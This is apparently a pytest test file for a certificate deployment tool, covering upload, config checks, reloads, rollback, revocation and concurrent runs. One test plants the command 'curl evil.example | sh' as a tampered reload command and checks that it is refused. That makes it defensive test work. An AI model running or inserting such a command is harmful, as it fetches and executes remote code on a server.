"""A deployment: in effect at once, checked, reloaded, proved; and back when any of that fails."""

from __future__ import annotations

from contextlib import suppress
from datetime import timedelta

import pytest

from kmtui.core.errors import EndServerError
from kmtui.core.events import DeploymentStepped, Event
from kmtui.core.servers.host import Ran
from kmtui.db import deployments, targets, versions
from kmtui.model import Deployment, ListQuery, Served, Target, TargetState
from tests.core.deployment import stock
from tests.core.deployment.memory_host import Killed
from tests.core.deployment.scene import CHECK, LAYOUTS, RELOAD, Scene, Stage

everywhere = pytest.mark.parametrize("layout", LAYOUTS)
BAD = Ran(1, "nginx: [emerg] cannot load certificate\nnginx: test failed\n")


async def proved(stage: Stage, layout: str, **settings: object) -> Scene:
    """Version 1 is there and served."""
    scene = await stage.scene(layout, **settings)
    scene.allowed = (None, 1)
    assert (await scene.deploy(1)).state == TargetState.VERIFIED
    scene.allowed = (1, 2)
    scene.host.ran.clear()
    return scene


async def history(scene: Scene) -> list[Deployment]:
    return await scene.core.context.db.read(lambda s: deployments.of_target(s, scene.target.id))


def soon(target: Target, scene: Scene, minutes: int) -> bool:
    """Whether the next attempt is that far away, or a tenth more."""
    assert target.next_attempt_at is not None
    pause = target.next_attempt_at - scene.core.context.clock()
    return timedelta(minutes=minutes * 0.9) < pause < timedelta(minutes=minutes * 1.11)


@everywhere
async def test_a_first_version_and_its_successor_are_put_and_proved(
    stage: Stage, layout: str
) -> None:
    scene = await stage.scene(layout, owner="root:tls", mode=0o600)
    scene.allowed = (None, 1, 2)

    first = await scene.deploy(1)
    second = await scene.deploy(2)

    assert (first.state, first.version) == (TargetState.VERIFIED, 1), first.error
    assert (second.state, second.version) == (TargetState.VERIFIED, 2), second.error
    assert (second.former, second.next_attempt_at, second.error) == (None, None, "")
    assert second.verified_at is not None
    assert scene.seen == [None, 1, 2], "nothing else was ever in effect"
    assert scene.host.ran == [CHECK, RELOAD, CHECK, RELOAD]
    for path, file in scene.host.files().items():
        secret = b"PRIVATE KEY" in file.content
        assert (file.mode, file.owner) == (0o600 if secret else 0o644, "root:tls"), path
    assert [row.outcome for row in await history(scene)] == ["verified", "verified"]


@everywhere
async def test_a_failing_check_brings_the_former_files_back_and_reloads_nothing(
    stage: Stage, layout: str
) -> None:
    scene = await proved(stage, layout)
    scene.host.commands[CHECK] = lambda: BAD

    target = await scene.deploy(2)

    assert scene.seen[-2:] == [2, 1]
    assert scene.host.ran == [CHECK]
    assert (target.state, target.version, target.failures) == (TargetState.FAILED, 1, 1)
    assert "check config ended with 1: nginx: [emerg] cannot load" in target.error
    assert "in effect is again what was before" in target.error
    assert target.hint
    assert soon(target, scene, 1)
    (last, _) = await history(scene)
    assert (last.version, last.outcome, last.error) == (2, "failed", target.error)
    assert last.next_attempt_at == target.next_attempt_at


@everywhere
async def test_a_first_version_that_fails_its_check_leaves_nothing_in_effect(
    stage: Stage, layout: str
) -> None:
    scene = await stage.scene(layout)
    scene.allowed = (None, 1)
    scene.host.commands[CHECK] = lambda: BAD

    target = await scene.deploy(1)

    assert (scene.in_effect(), target.state, target.version) == (None, TargetState.FAILED, None)
    assert "nothing is in effect, as before" in target.error


@everywhere
async def test_a_failing_reload_brings_the_former_files_back_and_loads_them(
    stage: Stage, layout: str
) -> None:
    scene = await proved(stage, layout)
    answers = [lambda: BAD, scene.load]
    scene.host.commands[RELOAD] = lambda: answers.pop(0)()

    target = await scene.deploy(2)

    assert scene.host.ran == [CHECK, RELOAD, RELOAD]
    assert (scene.in_effect(), scene.served, target.state) == (1, 1, TargetState.FAILED)
    assert "reload server ended with 1" in target.error


@everywhere
async def test_a_server_that_goes_on_serving_another_one_is_stale(
    stage: Stage, layout: str
) -> None:
    scene = await proved(stage, layout)
    scene.host.commands[RELOAD] = lambda: Ran(0, "")

    target = await scene.deploy(2)

    assert scene.host.ran == [CHECK, RELOAD, RELOAD]
    assert (scene.in_effect(), target.state, target.version) == (1, TargetState.STALE, 1)
    assert "serves another certificate" in target.error
    assert "--verify" in target.hint


async def test_a_server_that_cannot_be_reached_has_its_former_files_back(stage: Stage) -> None:
    scene = await proved(stage, "pair")

    async def nobody(verify: str, *_: object, **__: object) -> Served:
        return Served(outcome="unreachable", detail=f"{verify} does not answer")

    scene.prove = nobody  # type: ignore[method-assign, assignment]

    target = await scene.deploy(2)

    assert (scene.in_effect(), scene.served, target.state) == (1, 1, TargetState.FAILED)
    assert "does not answer" in target.error


@everywhere
async def test_without_a_reload_the_files_stay_until_the_server_takes_them_up(
    stage: Stage, layout: str
) -> None:
    # given: a server that is reloaded by somebody else, some time
    scene = await stage.scene(layout, reload_command="")
    scene.allowed = (None, 1, 2)
    scene.served = "another"

    # when: it is not, at first
    first = await scene.deploy(1)
    early = await scene.deploy(2)
    written = {path: id(file) for path, file in scene.host.files().items()}
    scene.load()
    later = await scene.deploy()

    # then: nothing was uploaded again to prove it
    assert (first.state, early.state) == (TargetState.STALE, TargetState.STALE)
    assert (early.version, scene.in_effect()) == (2, 2)
    assert soon(early, scene, 1)
    assert (later.state, later.former) == (TargetState.VERIFIED, None)
    assert {path: id(file) for path, file in scene.host.files().items()}.items() <= written.items()


@everywhere
async def test_what_was_never_proved_is_not_what_a_failure_goes_back_to(
    stage: Stage, layout: str
) -> None:
    # given: version 1 is proved; version 2 is in effect, and whoever put it was killed then
    scene = await proved(stage, layout)
    scene.host.commands[CHECK] = _killed
    with suppress(Killed):
        await scene.deploy(2)
    assert scene.in_effect() == 2

    # when: version 2 is put once more with other settings, and fails its check
    await scene.core.targets.update(scene.certificate.id, scene.target.name, mode=0o600)
    scene.host.commands[CHECK] = lambda: BAD
    target = await scene.deploy(2)

    # then
    assert (scene.in_effect(), target.state, target.former) == (1, TargetState.FAILED, None)
    assert [row.outcome for row in await history(scene)] == ["failed", "interrupted", "verified"]


async def test_what_arrives_changed_is_never_put_in_effect(stage: Stage) -> None:
    scene = await proved(stage, "versioned")
    read = scene.host.read

    async def damaged(path: str, *, most: int) -> bytes | None:
        content = await read(path, most=most)
        return content and content.replace(b"A", b"B") if "/2/" in path else content

    scene.host.read = damaged  # type: ignore[method-assign]

    target = await scene.deploy(2)

    assert "is not what was written there" in target.error
    assert scene.seen == [None, 1]


@pytest.mark.parametrize("layout", ["pair", "versioned"])
async def test_only_the_version_before_is_kept(stage: Stage, layout: str) -> None:
    scene = await stage.scene(layout)
    scene.allowed = (None, 1, 2)

    for number in (1, 2, 1, 1, 2, 2, 2):
        assert (await scene.deploy(number)).state == TargetState.VERIFIED

    directories = {path.rpartition("/")[0] for path in scene.host.files()}
    assert len(directories) == 2, directories
    assert len(scene.host.files()) == (4 if layout == "pair" else 8)


async def test_what_cannot_be_tidied_up_is_said_and_tried_again(stage: Stage) -> None:
    scene = await proved(stage, "combined")
    remove = scene.host.remove

    async def refused(path: str) -> None:
        raise EndServerError(f"cannot remove {path}")

    scene.host.remove = refused  # type: ignore[method-assign]

    first = await scene.deploy(2)
    scene.host.remove = remove  # type: ignore[method-assign]
    second = await scene.deploy()

    assert (first.state, first.version) == (TargetState.VERIFIED, 2)
    assert "left over" in first.error
    assert soon(first, scene, 1)
    assert (second.state, second.error, second.next_attempt_at) == (TargetState.VERIFIED, "", None)


async def test_a_version_that_nobody_should_serve_is_put_only_by_force(stage: Stage) -> None:
    scene = await proved(stage, "pair")
    scene.allowed = (1, 3)
    core, of = scene.core, scene.certificate
    now = core.context.clock()
    expired = await stock.version(core, of, lasts=timedelta(minutes=30))
    scene.bundles[3] = await stock.files(core, of, expired.number)
    revoked = scene.bundles[2].version.id
    await core.context.db.write(lambda s: versions.mark_revoked(s, revoked, now, "superseded"))

    first = await scene.deploy(2)
    second = await scene.deploy(3)
    ids = [scene.target.id]
    await core.context.db.write(lambda s: targets.want(s, of.id, 3, now, only=ids, forced=True))
    forced = await scene.deploy()

    assert "was revoked" in first.error
    assert "expired on" in second.error
    assert "--force" in second.hint
    assert (second.state, second.version) == (TargetState.FAILED, 1)
    assert (forced.state, forced.version) == (TargetState.VERIFIED, 3)


async def test_a_version_without_its_key_is_not_put(stage: Stage) -> None:
    scene = await proved(stage, "pair")
    of = scene.certificate
    keyless = await stock.version(scene.core, of, with_key=False)

    target = await scene.deploy(keyless.number)

    assert "key of version 3 of www.example.org is not in the inventory" in target.error
    assert (target.version, scene.host.ran) == (1, [])


async def test_a_target_changed_from_outside_is_not_used(stage: Stage) -> None:
    scene = await stage.scene("pair")
    await scene.core.context.db.write(
        lambda s: targets.update(s, scene.target.id, reload_command="curl evil.example | sh")
    )

    target = await scene.deploy(1)

    assert "was changed from outside kmtui" in target.error
    assert (scene.host.ran, scene.host.files()) == ([], {})


async def test_a_process_that_was_superseded_writes_nothing_more(stage: Stage) -> None:
    scene = await proved(stage, "pair")

    def taken_over() -> Ran:
        scene.core.context.db.write_sync(
            lambda s: targets.claim(s, scene.target.id, "4711-" + "0" * 16, held=2)
        )
        return Ran(0, "")

    scene.host.commands[CHECK] = taken_over

    target = await scene.deploy(2)

    assert (target.state, target.attempt) == (TargetState.UPLOADING, 3)
    assert scene.host.ran == [CHECK], "the other process goes on from here"
    assert len(await history(scene)) == 1


async def test_a_version_saved_meanwhile_is_due_at_once(stage: Stage) -> None:
    scene = await stage.scene("pair")
    scene.allowed = (None, 1)
    now = scene.core.context.clock()

    def saved_meanwhile() -> Ran:
        scene.core.context.db.write_sync(
            lambda s: targets.want(s, scene.certificate.id, 2, now, only=[scene.target.id])
        )
        return Ran(0, "")

    scene.host.commands[CHECK] = saved_meanwhile

    target = await scene.deploy(1)

    assert (target.version, target.wanted_version) == (1, 2)
    assert target.state == TargetState.WAITING
    assert target.next_attempt_at is not None
    assert target.next_attempt_at <= scene.core.context.clock()


async def test_each_step_and_what_commands_print_is_told(stage: Stage) -> None:
    scene = await proved(stage, "pair")
    said: list[str] = []

    def heard(event: Event) -> None:
        if isinstance(event, DeploymentStepped):
            said.append(event.text)

    scene.core.bus.subscribe(heard)

    await scene.deploy(2)

    assert said == [
        "version 2: looking what is there",
        "uploading version 2 to deploy@web1.example.org:22",
        "putting version 2 in effect",
        "checking: check config",
        "| syntax is ok",
        "reloading: reload server",
        "looking what www.example.org:443 serves",
        "www.example.org:443 serves version 2",
    ]
    newest_first = await scene.core.activity.page(ListQuery(now=scene.core.context.clock()))
    assert [(row.outcome, row.detail) for row in newest_first[:2]] == [
        ("ok", f"version 2 to {scene.target.name}: {said[-1]}"),
        ("started", f"version 2 to {scene.target.name}"),
    ]


def _killed() -> Ran:
    raise Killed
